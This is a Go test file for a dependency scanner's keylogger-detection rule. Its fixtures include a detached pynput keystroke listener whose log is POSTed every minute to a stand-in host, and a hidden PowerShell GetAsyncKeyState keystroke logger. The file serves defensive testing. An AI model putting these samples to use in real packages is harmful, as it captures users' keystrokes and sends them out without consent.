package cred

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestKeylogger(t *testing.T) {
	rt.Check(t, Keylogger{}, []rt.Case{
		// a Python listener started detached, its log posted later
		{"pynput_posted", map[string]string{"index.js": "const py = `from pynput import keyboard\ndef on_press(k):\n    open('/tmp/.k', 'a').write(str(k))\nkeyboard.Listener(on_press=on_press).start()`;\n" +
			`require("child_process").spawn("python3", ["-c", py], { detached: true, stdio: "ignore" }).unref();
setInterval(() => require("https").request({ hostname: "k.example.invalid", method: "POST" }).end(require("fs").readFileSync("/tmp/.k")), 60000)`}, finding.SeverityCritical},
		// PowerShell polling GetAsyncKeyState, no network in the file
		{"powershell_poll", map[string]string{"index.js": `require("child_process").exec("powershell -w hidden -c \"Add-Type -MemberDefinition '[DllImport(\\\"user32.dll\\\")] public static extern short GetAsyncKeyState(int k);' -Name U -Namespace W; while(1){ 8..255 | % { if([W.U]::GetAsyncKeyState($_) -eq -32767){ Add-Content $env:TEMP\\k.txt $_ } } }\"")`}, finding.SeverityHigh},
		// a keyboard-layout tool that names the keyboard without hooking it
		{"layout_tool", map[string]string{"index.js": `const { execSync } = require("child_process"); const layout = execSync("setxkbmap -query").toString(); exports.keyboard = { layout, hint: "keyboard.layout" }`}, finding.SeverityNone},
		// docs of a hotkey library mention pynput, and nothing is started
		{"no_spawn", map[string]string{"index.js": `exports.notes = "Unlike pynput's keyboard.Listener, this library only sees keys sent to its own window."`}, finding.SeverityNone},
	})
}
